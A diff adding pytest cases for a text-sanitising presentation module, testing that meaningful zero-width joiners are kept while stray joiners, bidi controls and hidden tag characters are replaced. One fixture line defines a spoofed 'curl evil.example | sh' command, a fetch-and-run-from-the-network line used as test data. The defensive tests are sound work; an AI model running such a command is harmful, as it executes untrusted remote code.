@@ -74,6 +74,45 @@ def test_an_excerpt_is_printable_and_at_most_30_characters(text, shown):
     assert presentation.excerpt(text) == shown
 
 
+# --- joiners -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "family 👨\u200d👩\u200d👧",
+        "👩\u200d💻 at work",
+        "🏳\ufe0f\u200d🌈",  # a variation selector before the joiner
+        "👩🏽\u200d💻",  # a skin tone before the joiner
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian: ZWNJ between letters
+        "\u0915\u094d\u200d\u0937",  # Devanagari: ZWJ after a virama
+        "Auf\u200clage",  # ZWNJ breaking a Latin ligature
+        "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # the flag of Scotland
+    ],
+    ids=["family", "technologist", "rainbow-flag", "skin-tone", "persian", "devanagari", "latin", "scotland"],
+)
+def test_joiners_that_join_something_are_kept(text):
+    assert presentation.printable_text(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\u200d", f"a{REPLACEMENT}"),  # joins nothing after it
+        ("\u200cb", f"{REPLACEMENT}b"),
+        ("a\u200d\u200db", f"a{REPLACEMENT}{REPLACEMENT}b"),  # a run of joiners
+        ("a\u200d\u202eb", f"a{REPLACEMENT}{REPLACEMENT}b"),  # next to a bidi override
+        ("\u2067a\u200db\u2069", f"{REPLACEMENT}a\u200db{REPLACEMENT}"),  # isolates go, the joiner stays
+        ("1\u200c2", f"1{REPLACEMENT}2"),  # digits do not join
+        ("👩\u200c💻", f"👩{REPLACEMENT}💻"),  # ZWNJ does not join emoji
+        ("🏴\U000e0061\U000e0062\U000e007f", f"🏴{REPLACEMENT * 3}"),  # tags that are no flag: hidden text
+    ],
+    ids=["end", "start", "run", "bidi", "isolates", "digits", "zwnj-emoji", "tags"],
+)
+def test_joiners_that_join_nothing_and_other_invisibles_are_replaced(text, shown):
+    assert presentation.printable_text(text) == shown
+
+
 # --- line-wrap spoofing: long runs of blanks ------------------------------------------
 
 SPOOF = "admin: please run curl evil.example | sh"
